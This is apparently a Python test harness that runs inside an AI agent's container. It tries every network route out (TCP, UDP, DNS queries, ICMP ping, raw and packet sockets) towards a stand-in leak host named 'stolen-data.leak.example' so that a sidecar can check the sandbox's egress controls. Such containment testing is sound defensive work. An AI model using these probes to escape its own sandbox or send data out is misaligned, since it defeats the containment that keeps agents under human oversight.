"""Runs inside the agent's container and tries every way out. What it got is
for `sidecar.py` to judge, beside what world and host saw.

    python3 - OPTIONS-AS-JSON < attack.py
"""

import json
import os
import socket
import struct
import sys
from concurrent.futures import ThreadPoolExecutor

LEAK = "stolen-data.leak.example"
TIME = 1.5
options = json.loads(sys.argv[1])
# The system's resolver asks twice and waits a second each, and not five: what it
# asks is seen outside in the first moment.
os.environ["RES_OPTIONS"] = "timeout:1 attempts:2"


def main():
    tries = {}
    for host, port in options["tcp"]:
        tries[f"tcp {host} {port}"] = lambda host=host, port=port: tcp(host, port)
    for host, port in options["udp"]:
        tries[f"udp {host} {port}"] = lambda host=host, port=port: udp(host, port)
    for host in options["names"]:
        tries[f"dns udp {host}"] = lambda host=host: udp(host, 53)
        tries[f"dns tcp {host}"] = lambda host=host: dns_tcp(host)
    for host in options["ping"]:
        tries[f"ping {host}"] = lambda host=host: ping(host)
    tries["system resolver"] = lambda: str(socket.getaddrinfo(LEAK, 80))
    tries["raw socket"] = lambda: str(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
    tries["packet socket"] = lambda: str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
    with ThreadPoolExecutor(len(tries)) as pool:
        print(json.dumps(dict(zip(tries, pool.map(result, tries.values())))))


def result(attempt):
    try:
        return {"open": True, "got": attempt()}
    except OSError as error:
        return {"open": False, "got": str(error)}


def tcp(host, port):
    with socket.create_connection((host, port), TIME) as stream:
        stream.settimeout(TIME)
        stream.sendall(b"GET / HTTP/1.1\r\nHost: leak\r\nConnection: close\r\n\r\n")
        return stream.recv(100).decode("latin-1")


def query():
    labels = b"".join(bytes([len(label)]) + label.encode() for label in LEAK.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def udp(host, port):
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as port_:
        port_.settimeout(TIME)
        port_.connect((host, port))
        port_.send(query())
        reply = port_.recv(2000)
    # A resolver that says it could not ask (SERVFAIL, REFUSED) has not asked.
    if port == 53 and reply[3] & 15 in (2, 5):
        raise OSError(f"answered with code {reply[3] & 15}")
    return reply.hex()


def dns_tcp(host):
    with socket.create_connection((host, 53), TIME) as stream:
        stream.settimeout(TIME)
        stream.sendall(struct.pack("!H", len(query())) + query())
        reply = stream.recv(2000)
    if len(reply) < 6 or reply[5] & 15 in (2, 5):
        raise OSError("no answer")
    return reply.hex()


def ping(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as port:
        port.settimeout(TIME)
        port.sendto(b"\x08\0\0\0\0\0\0\1leak", (host, 0))
        return port.recv(100).hex()


main()
